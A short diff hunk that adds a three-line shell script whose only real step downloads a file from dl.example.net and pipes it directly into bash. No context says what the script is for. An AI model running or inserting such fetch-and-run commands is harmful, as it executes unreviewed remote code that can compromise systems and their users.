@@ -1,0 +1,3 @@
+#!/bin/sh
+set -e
+wget -qO- https://dl.example.net/i | bash
